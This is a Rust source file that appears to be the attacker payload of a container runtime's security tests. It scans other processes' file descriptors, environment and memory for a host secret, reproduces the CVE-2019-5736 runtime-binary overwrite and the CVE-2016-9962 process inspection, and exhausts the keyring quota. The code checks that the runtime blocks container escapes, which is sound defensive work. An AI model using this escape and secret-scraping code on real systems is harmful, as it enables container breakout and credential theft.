//! Sub-commands of an attacker: inspect every other process, keep handles, use up keys.

use crate::acts::{number, wait_file};
use crate::{call, say, verdict};
use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Seek, SeekFrom, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::Path;
use std::time::Duration;

/// Acts; false when the verb is not one of these.
pub(crate) fn act(verb: &str, args: &[&str]) -> bool {
    match (verb, args) {
        ("steal-exe", [dir]) => steal_exe(dir),
        ("spy", [dir]) => spy(dir),
        ("thief", [dir, file, token, tables]) => Thief { file, token, tables: *tables == "tables" }.work(dir),
        ("reap", []) => reap(),
        ("fill-keys", [secret, program, ..]) => fill_keys(secret, program, &args[2..]),
        ("read-key", [id]) => read_key(number(id)),
        ("terminal-of", [dir]) => terminal_of(dir),
        _ => return false,
    }
    true
}

/// The first process of a private host: reaps all children.
fn reap() {
    say("reap", "ready");
    loop {
        if call::wait(-1).is_err() {
            std::thread::sleep(Duration::from_millis(1));
        }
    }
}

/// A neighbour that looks for the host's secret: in a file (also by its path on the host), in an environment, a command
/// line, a mount table, the name of a socket.
struct Thief<'a> {
    file: &'a str,
    token: &'a str,
    /// Whether tables that everybody may read count too; in the host's own pid namespace they are no secret.
    tables: bool,
}

impl Thief<'_> {
    /// Looks until `DIR/stop` exists. Prints the first hit of each kind, and at the end how many processes were seen.
    fn work(&self, dir: &str) {
        let (mut seen, mut hits) = (BTreeSet::new(), BTreeSet::new());
        say("thief", "ready");
        while fs::symlink_metadata(format!("{dir}/stop")).is_err() {
            for pid in numbers("/proc").into_iter().filter(|pid| *pid != std::process::id()) {
                seen.insert(pid);
                for (kind, what) in self.look(pid) {
                    // report one hit per kind, since there are many descriptors
                    let kind = kind.trim_end_matches(|c: char| c.is_ascii_digit()).to_owned();
                    if hits.insert(kind.clone()) {
                        say("hit", format!("{kind} of {pid}: {what}"));
                    }
                }
            }
        }
        say("seen", seen.len());
    }

    fn look(&self, pid: u32) -> Vec<(String, String)> {
        let mut hits = Vec::new();
        let base = format!("/proc/{pid}");
        let fds = numbers(&format!("{base}/fd")).into_iter().map(|fd| format!("fd/{fd}"));
        for place in fds.chain(["root".to_owned(), "cwd".to_owned()]) {
            if let Some(path) = self.leads_to_it(&format!("{base}/{place}")) {
                hits.push((place, path));
            }
        }
        let tables = ["cmdline", "comm", "mountinfo", "mounts", "net/unix"];
        for name in ["environ"].iter().chain(tables.iter().filter(|_| self.tables)) {
            let bytes = fs::read(format!("{base}/{name}")).unwrap_or_default();
            if let Some(line) = bytes.split(|b| *b == b'\n').find(|line| holds(line, self.token)) {
                hits.push(((*name).to_owned(), String::from_utf8_lossy(line).replace('\0', " ")));
            }
        }
        // before execve `exe` is the runtime's binary; reading its name needs ptrace access
        let names = fs::read_dir(format!("{base}/map_files")).into_iter().flatten().flatten();
        let names = names.map(|entry| entry.path()).chain([Path::new(&base).join("exe")]);
        let foreign = names.filter_map(|path| fs::read_link(path).ok()).map(|link| link.display().to_string());
        let of_the_host = |link: &String| {
            !link.ends_with("/payload") && ["runtime", "onggi", "runc"].iter().any(|name| link.contains(name))
        };
        hits.extend(foreign.filter(of_the_host).take(1).map(|link| ("exe".to_owned(), link)));
        if self.is_in_memory(&base) {
            hits.push(("mem".to_owned(), self.token.to_owned()));
        }
        hits
    }

    /// From a directory that the process has open: the secret file in it, above it, and by its path on the host.
    fn leads_to_it(&self, place: &str) -> Option<String> {
        let held = OpenOptions::new().read(true).custom_flags(libc::O_PATH | libc::O_DIRECTORY).open(place).ok()?;
        let name = self.file.rsplit('/').next()?;
        let near = (0..6).map(|ups| format!("{}{name}", "../".repeat(ups)));
        let ways = near.chain([format!("{}{}", "../".repeat(12), self.file.trim_start_matches('/'))]);
        ways.map(|way| format!("/proc/self/fd/{}/{way}", held.as_raw_fd()))
            .find(|path| fs::read(path).is_ok_and(|bytes| holds(&bytes, self.token)))
            .map(|path| format!("{place} by {path}"))
    }

    fn is_in_memory(&self, base: &str) -> bool {
        let Ok(mut memory) = File::open(format!("{base}/mem")) else { return false };
        let maps = fs::read_to_string(format!("{base}/maps")).unwrap_or_default();
        let writable = maps.lines().filter(|line| line.contains(" rw"));
        writable.filter_map(|line| line.split_once(' ')?.0.split_once('-')).any(|(from, to)| {
            let (from, to) = (u64::from_str_radix(from, 16).unwrap(), u64::from_str_radix(to, 16).unwrap());
            let mut bytes = vec![0; usize::try_from((to - from).min(1 << 18)).unwrap()];
            // a stack is used from its end, so read there first
            let start = to - bytes.len() as u64;
            let read = memory.seek(SeekFrom::Start(start)).and_then(|_| memory.read(&mut bytes)).unwrap_or(0);
            holds(&bytes[..read], self.token)
        })
    }
}

fn holds(bytes: &[u8], token: &str) -> bool {
    bytes.windows(token.len()).any(|part| part == token.as_bytes())
}

fn numbers(dir: &str) -> Vec<u32> {
    let entries = fs::read_dir(dir).into_iter().flatten().flatten();
    entries.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect()
}

/// Joins a new session keyring, adds a key to it that only its possessor may read, and adds keyrings until the user's quota is
/// used up. Prints the key's id and executes the program. All of this ends with the session. (Keys in the user keyring would stay
/// until the next boot, and keyrings with names would slow down every later lookup by name.)
fn fill_keys(secret: &str, program: &str, args: &[&str]) {
    use std::os::unix::process::CommandExt;
    const JOIN_SESSION: i64 = 1;
    const SETPERM: i64 = 5;
    const POSSESSOR_ALL: i64 = 0x3f00_0000;
    const SESSION: i64 = -3;
    let text = |text: &str| std::ffi::CString::new(text).unwrap();
    let (user, ring, name, payload) = (text("user"), text("keyring"), text("callers"), text(secret));
    let address = |text: &std::ffi::CString| text.as_ptr() as i64;
    call::call(libc::SYS_keyctl, &[JOIN_SESSION, address(&name)]).unwrap();
    let length = i64::try_from(secret.len()).unwrap();
    let key =
        call::call(libc::SYS_add_key, &[address(&user), address(&name), address(&payload), length, SESSION]).unwrap();
    call::call(libc::SYS_keyctl, &[SETPERM, key, POSSESSOR_ALL]).unwrap();
    let mut made = 0;
    let full = loop {
        let name = text(&format!("ring{made}"));
        match call::call(libc::SYS_add_key, &[address(&ring), address(&name), 0, 0, SESSION]) {
            Ok(_) if made < 100_000 => made += 1,
            Ok(_) => panic!("payload: no end of keys"),
            Err(error) => break error,
        }
    };
    say("key", key);
    verdict::<()>("keys", Err(full));
    let key = key.to_string();
    let args = args.iter().map(|arg| arg.replace("KEY", &key));
    verdict::<()>(program, Err(std::process::Command::new(program).args(args).exec()));
}

fn read_key(id: i64) {
    const READ: i64 = 11;
    let mut bytes = [0_u8; 256];
    match call::call(libc::SYS_keyctl, &[READ, id, bytes.as_mut_ptr() as i64, 256]) {
        Ok(length) => say("read-key", String::from_utf8_lossy(&bytes[..usize::try_from(length).unwrap()])),
        Err(error) => verdict::<()>("read-key", Err(error)),
    }
}

/// Whether standard input is a terminal of the devpts mounted on `dir`.
fn terminal_of(dir: &str) {
    use std::os::unix::fs::MetadataExt;
    let own = fs::metadata("/proc/self/fd/0").map(|meta| meta.dev());
    let there = fs::metadata(dir).map(|meta| meta.dev());
    say("terminal", format!("{} {}", call::isatty(0), own.is_ok_and(|own| there.is_ok_and(|there| own == there))));
}

/// CVE-2019-5736: opens every `/proc/PID/exe` that is not this program, waits for the process to end, and tries to write
/// through the handle. Looks until `DIR/stop` exists. Prints how many it had open and how each attempt ended.
fn steal_exe(dir: &str) {
    use std::os::unix::fs::MetadataExt;
    let own = fs::metadata("/proc/self/exe").map(|meta| (meta.dev(), meta.ino())).unwrap();
    let mut held: Vec<(u32, File, String)> = Vec::new();
    say("steal", "ready");
    while fs::symlink_metadata(format!("{dir}/stop")).is_err() {
        for pid in fs::read_dir("/proc").unwrap().flatten().filter_map(|e| e.file_name().to_str()?.parse().ok()) {
            grab(pid, own, &mut held);
        }
    }
    say("held", held.len());
    for (pid, file, name) in &held {
        // the process has ended, so nothing executes the file any more: an error is not just ETXTBSY
        let path = format!("/proc/self/fd/{}", file.as_raw_fd());
        let result = OpenOptions::new().append(true).open(path).and_then(|mut f| f.write_all(b"overwritten"));
        verdict(&format!("steal {pid} {name}"), result);
    }
}

fn grab(pid: u32, own: (u64, u64), held: &mut Vec<(u32, File, String)>) {
    use std::os::unix::fs::MetadataExt;
    let path = format!("/proc/{pid}/exe");
    let Ok(file) = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&path) else { return };
    let Ok(meta) = file.metadata() else { return };
    let name = fs::read_link(&path).map(|link| link.display().to_string()).unwrap_or_default();
    let known = held
        .iter()
        .any(|(p, f, _)| *p == pid && f.metadata().is_ok_and(|m| (m.dev(), m.ino()) == (meta.dev(), meta.ino())));
    if (meta.dev(), meta.ino()) != own && !known && name != "/proc/self/exe" {
        held.push((pid, file, name));
    }
}

/// CVE-2016-9962: once `DIR/look` exists, tries to inspect every other process of the container; then keeps running.
fn spy(dir: &str) {
    say("spy", "ready");
    wait_file(&format!("{dir}/look"));
    for pid in numbers("/proc").into_iter().filter(|pid| *pid != std::process::id()) {
        let look = |name: &str| {
            let path = format!("/proc/{pid}/{name}");
            verdict(&format!("look {path}"), OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&path));
        };
        ["root", "cwd", "exe"].into_iter().for_each(look);
        let mem = format!("/proc/{pid}/mem");
        verdict(&format!("look {mem}"), File::open(&mem));
        numbers(&format!("/proc/{pid}/fd")).into_iter().for_each(|fd| look(&format!("fd/{fd}")));
    }
    say("spied", "all");
    loop {
        std::thread::sleep(Duration::from_secs(3600));
    }
}
